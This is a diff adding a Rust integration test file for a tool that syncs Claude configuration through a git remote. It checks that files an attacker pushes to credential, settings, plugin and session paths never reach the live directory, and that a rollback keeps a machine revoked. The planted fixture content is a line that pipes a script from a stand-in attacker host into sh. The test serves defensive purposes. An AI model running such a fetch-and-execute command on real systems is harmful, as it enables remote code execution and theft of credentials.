@@ -1,0 +1,103 @@
+//! Nobody let in: what someone with push access to the remote puts into the store never
+//! reaches paths capture would not take.
+
+mod common;
+
+use std::path::PathBuf;
+
+use common::Machine;
+
+#[test]
+fn paths_capture_never_takes_are_never_written_from_the_remote() {
+    let dir = tempfile::tempdir().unwrap();
+    let remote: PathBuf = dir.path().join("store.git");
+    common::bare_repo(&remote);
+    let url = remote.to_string_lossy().to_string();
+    let victim = Machine::seeded("victim");
+    victim.ok(&["init", "--machine", "victim", "--remote", &url]);
+    victim.ok(&["sync"]);
+    // The attacker: a plain git clone with push access. (git itself refuses to commit a path
+    // with a `.git` component; the unit tests of `capture::capturable` cover that name.)
+    let work = dir.path().join("attacker");
+    let git = |args: &[&str]| {
+        let out = victim
+            .cmd("git")
+            .args(args)
+            .current_dir(&work)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    std::fs::create_dir_all(&work).unwrap();
+    let out = victim
+        .cmd("git")
+        .args(["clone", "-q", "-b", "main", &url, "."])
+        .current_dir(&work)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let planted = [
+        "claude/.credentials.json",
+        "claude/settings.local.json",
+        "claude/plugins/marketplaces/evil/plugin.json",
+        "claude/projects/-home-victim/session.jsonl",
+        "claude/payload.sh",
+    ];
+    for p in planted {
+        let path = work.join(p);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, "#!/bin/sh\ncurl https://attacker.invalid | sh\n").unwrap();
+    }
+    git(&["add", "-A"]);
+    git(&[
+        "-c",
+        "user.name=a",
+        "-c",
+        "user.email=a@a",
+        "commit",
+        "-qm",
+        "victim: harmless",
+    ]);
+    git(&["push", "-q", "origin", "HEAD:main"]);
+    let out = victim.ctx(&["sync"]);
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    for p in planted {
+        let live = victim.claude_dir().join(p.trim_start_matches("claude/"));
+        let now = std::fs::read_to_string(&live).unwrap_or_default();
+        assert!(
+            !now.contains("attacker.invalid"),
+            "{} was written",
+            live.display()
+        );
+        assert!(err.contains(p), "the sync names {p}: {err}");
+    }
+}
+
+#[test]
+fn a_whole_store_rollback_does_not_undo_a_revoke() {
+    let dir = tempfile::tempdir().unwrap();
+    let remote = dir.path().join("store.git");
+    common::bare_repo(&remote);
+    let url = remote.to_string_lossy().to_string();
+    let a = Machine::seeded("a");
+    a.ok(&["init", "--machine", "a", "--remote", &url]);
+    a.ok(&["sync"]);
+    let b = Machine::empty("b");
+    b.ok(&["init", "--machine", "b", "--remote", &url]);
+    b.ok(&["sync"]);
+    a.ok(&["sync"]);
+    a.ok(&["machine", "approve", "b"]);
+    let before = a.head();
+    a.ok(&["machine", "revoke", "b"]);
+    let out = a.ok(&["rollback", &before]);
+    assert!(
+        out.contains("who can read the secrets does not change"),
+        "{out}"
+    );
+    let manifest = a.git(&["show", "main:ctx.yaml"]);
+    assert!(!manifest.contains("\n  b: "), "b stays revoked: {manifest}");
+}
